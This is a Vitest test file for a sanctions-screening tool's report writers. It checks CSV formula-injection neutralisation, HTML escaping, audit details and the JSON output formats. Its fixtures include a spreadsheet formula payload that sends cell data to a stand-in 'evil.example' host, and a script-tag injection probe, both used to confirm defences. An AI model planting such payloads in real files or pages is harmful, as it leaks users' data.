import { describe, expect, it } from 'vitest';
import type { BatchAudit, BatchMatch, BatchResult } from '../../src/batch/batchResult.js';
import { countResult, emptySummary } from '../../src/batch/batchSummary.js';
import { csvCell } from '../../src/batch/reports/csvCell.js';
import { createCsvReportWriter } from '../../src/batch/reports/csvReport.js';
import { createHtmlReportWriter, HTML_DETAIL_LIMIT } from '../../src/batch/reports/htmlReport.js';
import { createJsonlReportWriter, createJsonReportWriter } from '../../src/batch/reports/jsonReport.js';
import { reportFormatOf } from '../../src/batch/reports/reportWriter.js';

const audit: BatchAudit = {
  lists: [
    {
      list: 'default',
      name: 'sanctions-screen embedded demonstration list',
      format: 'watchlist-json',
      publishedAt: '2026-11-25',
      entities: 51,
      contentHash: 'a'.repeat(64),
    },
  ],
  options: { threshold: 0.8, matchesPerRow: 5, workers: 0, input: { file: 'vendors.csv', format: 'csv' } },
};

const wagner: BatchMatch = {
  entityId: 'ofac-sdn:22543',
  entityName: "PRIVATE MILITARY COMPANY 'WAGNER'",
  schema: 'Organization',
  list: 'ofac-sdn',
  listName: 'OFAC Specially Designated Nationals (SDN) List',
  programs: ['TCO', 'RUSSIA-EO14024'],
  score: 1,
  nameScore: 1,
  matchedName: 'PMC WAGNER',
  matchedNameKind: 'alias',
  explanation: [
    { feature: 'token', query: 'pmc', candidate: 'pmc', relation: 'exact', note: 'same token' },
    { feature: 'token', query: 'wagner', candidate: 'wagner', relation: 'exact', note: 'same token' },
  ],
  entityHash: `sha256:${'b'.repeat(64)}`,
  decision: 'alert',
};

const ornek: BatchMatch = {
  ...wagner,
  entityId: 'demo:ORNEK-KOPRU',
  entityName: 'ORNEK KOPRU DIS TICARET LIMITED SIRKETI',
  list: 'demo',
  programs: [],
  score: 0.91,
  matchedName: 'ORNEK KOPRU DIS TICARET LIMITED SIRKETI',
  matchedNameKind: 'primary',
  path: {
    steps: [
      { entityId: 'demo:ORNEK-KOPRU', name: 'ORNEK KOPRU DIS TICARET LIMITED SIRKETI' },
      { entityId: 'ofac-sdn:42033', name: 'AZU INTERNATIONAL BILGI', relationship: 'ownedBy', share: 60 },
    ],
  },
};

const result = (row: number, name: string, status: BatchResult['status'], matches: BatchMatch[] = []): BatchResult => ({
  row,
  key: `V-${row}`,
  name,
  status,
  matches,
  warnings: [],
  audit,
});

const results = [
  result(2, 'Müller Logistik GmbH', 'clear'),
  result(3, 'Ornek Kopru Dis Ticaret', 'alert', [ornek]),
  result(4, 'PMC Wagner', 'alert', [wagner]),
  result(5, '=HYPERLINK("http://evil.example/?d="&A1,"click")', 'clear'),
  result(6, '<script>alert(1)</script> Trading', 'alert', [{ ...wagner, score: 0.85 }]),
  { ...result(7, '', 'error'), error: 'line 7 is not valid CSV' },
];

function render(writer: ReturnType<typeof createCsvReportWriter>) {
  const summary = emptySummary();
  let text = writer.begin(audit, { generatedAt: '2026-11-25T10:00:00Z' });
  for (const r of results) {
    countResult(summary, r);
    text += writer.write(r);
  }
  return text + writer.end(summary, { generatedAt: '2026-11-25T10:00:00Z', elapsedMs: 1200 });
}

describe('CSV formula-injection neutralisation (OWASP)', () => {
  it('prefixes cells starting with = + - @ tab or carriage return with a single quote, and quotes every cell', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('+49 30 1234')).toBe(`"'+49 30 1234"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvCell('\t=cmd')).toBe(`"'\t=cmd"`);
    expect(csvCell('\r=cmd')).toBe(`"'\r=cmd"`);
    expect(csvCell('Acme "Best" Ltd')).toBe('"Acme ""Best"" Ltd"');
    expect(csvCell('Smith & Sons, Plumbing')).toBe('"Smith & Sons, Plumbing"');
    expect(csvCell(0.913)).toBe('"0.913"');
  });

  it('writes the hostile vendor name of the CSV report as text a spreadsheet will not evaluate', () => {
    const text = render(createCsvReportWriter());
    expect(text.startsWith('\uFEFF"row","key","name","status"')).toBe(true);
    expect(text).toContain(`"5","V-5","'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")","clear"`);
    // No line of the report has a cell that starts with a formula character.
    for (const line of text.split('\r\n')) expect(line).not.toMatch(/(^|,)"[=+\-@]/);
  });

  it('names the list versions and the threshold on every CSV line, one line per match', () => {
    const lines = render(createCsvReportWriter()).trim().split('\r\n');
    expect(lines).toHaveLength(1 + results.length);
    for (const line of lines.slice(1)) expect(line).toContain(`"default 2026-11-25 sha256:aaaaaaaaaaaa","0.8"`);
    const wagnerLine = lines.find((l) => l.includes('"V-4"'))!;
    expect(wagnerLine).toContain(`"ofac-sdn:22543","sha256:${'b'.repeat(64)}"`);
    expect(wagnerLine).toContain('"TCO; RUSSIA-EO14024"');
    expect(wagnerLine).toContain('"PMC = PMC, WAGNER = WAGNER"');
  });
});

describe('a list some of whose records could not be loaded', () => {
  const partial: BatchAudit = { ...audit, lists: [{ ...audit.lists[0]!, entities: 50, rejected: 1 }] };
  const begin = (writer: ReturnType<typeof createCsvReportWriter>) => {
    const summary = emptySummary();
    countResult(summary, results[3]!);
    const at = { generatedAt: '2026-11-25T10:00:00Z' };
    return writer.begin(partial, at) + writer.write(results[3]!) + writer.end(summary, { ...at, elapsedMs: 10 });
  };

  it('says so on every CSV line, beside the list version', () => {
    expect(begin(createCsvReportWriter())).toContain(
      '"default 2026-11-25 sha256:aaaaaaaaaaaa (1 records not loaded)","0.8"',
    );
  });

  it("says so in the HTML report's audit of the lists", () => {
    expect(begin(createHtmlReportWriter())).toMatch(/>50 <small>\(1 records not loaded\)<\/small><\/td>/);
  });
});

describe('HTML report', () => {
  const html = render(createHtmlReportWriter());

  it('is one self-contained page: no scripts, no external assets, and a policy forbidding them', () => {
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain(`default-src 'none'`);
    expect(html).not.toMatch(/<script|<link|<img|src=|href=|url\(/i);
  });

  it('escapes every text taken from the input', () => {
    expect(html).toContain('&#60;script&#62;alert(1)&#60;/script&#62; Trading');
    expect(html).not.toContain('<script>alert(1)');
  });

  it('lists the alerts by score, each with the list entry, programs, explanation and the indirect path', () => {
    const order = ['Row 4 ·', 'Row 3 ·', 'Row 6 ·'].map((s) => html.indexOf(s));
    expect(order.every((i) => i > 0)).toBe(true);
    expect(order).toEqual([...order].sort((a, b) => a - b));
    expect(html).toContain('TCO, RUSSIA-EO14024');
    expect(html).toContain('PMC = PMC, WAGNER = WAGNER');
    expect(html).toContain('owned by (60 %) → AZU INTERNATIONAL BILGI [ofac-sdn:42033]');
    expect(html).toContain('line 7 is not valid CSV');
  });

  it('shows the highest-scoring alerts when there are more than it can show, and says how many it left out', () => {
    const writer = createHtmlReportWriter();
    const summary = emptySummary();
    writer.begin(audit, {});
    // More alerts than the page holds, the strongest ones last in the file.
    const total = HTML_DETAIL_LIMIT + 300;
    for (let i = 0; i < total; i++) {
      const r = result(i + 2, `Vendor ${i}`, 'alert', [{ ...wagner, score: i >= total - 3 ? 0.99 : 0.81 }]);
      countResult(summary, r);
      writer.write(r);
    }
    const page = writer.end(summary, {});
    const shown = [...page.matchAll(/<h3>Row (\d+) /g)].map((m) => Number(m[1]));
    expect(shown).toHaveLength(HTML_DETAIL_LIMIT);
    expect(shown.slice(0, 3)).toEqual([total - 1, total, total + 1]);
    expect(page).toContain('300 more flagged or failed rows');
  });

  it('states the summary counts and the list versions with their content hash', () => {
    expect(html).toMatch(/Alerts \(rows to review\)<\/th><td class="num">3</);
    expect(html).toContain('a'.repeat(64));
    expect(html).toContain('2026-11-25');
  });
});

describe('JSON and JSON-lines reports', () => {
  it('writes the audit once, then one line per result, then the summary', () => {
    const lines = render(createJsonlReportWriter())
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines[0]).toMatchObject({
      type: 'run',
      format: 'sanctions-screen/batch-report@1',
      audit: { options: { threshold: 0.8 } },
    });
    expect(lines.slice(1, -1)).toHaveLength(results.length);
    expect(lines[3]).toMatchObject({
      type: 'result',
      row: 4,
      status: 'alert',
      matches: [{ entityId: 'ofac-sdn:22543', explanationText: 'PMC = PMC, WAGNER = WAGNER' }],
    });
    expect(lines[3]).not.toHaveProperty('audit');
    expect(lines.at(-1)).toMatchObject({ type: 'summary', rows: 6, byStatus: { alert: 3, clear: 2, error: 1 } });
  });

  it('writes a JSON report that parses as one document', () => {
    const doc = JSON.parse(render(createJsonReportWriter()));
    expect(doc.audit.lists[0].list).toBe('default');
    expect(doc.results).toHaveLength(results.length);
    expect(doc.summary.byStatus.alert).toBe(3);
  });

  it('picks the format from the report file name', () => {
    expect(['r.csv', 'r.JSON', 'r.jsonl', 'r.ndjson', 'r.html', 'r.htm'].map(reportFormatOf)).toEqual([
      'csv',
      'json',
      'jsonl',
      'jsonl',
      'html',
      'html',
    ]);
    expect(() => reportFormatOf('report.pdf')).toThrow(/\.csv, \.json, \.jsonl or \.html/);
  });
});
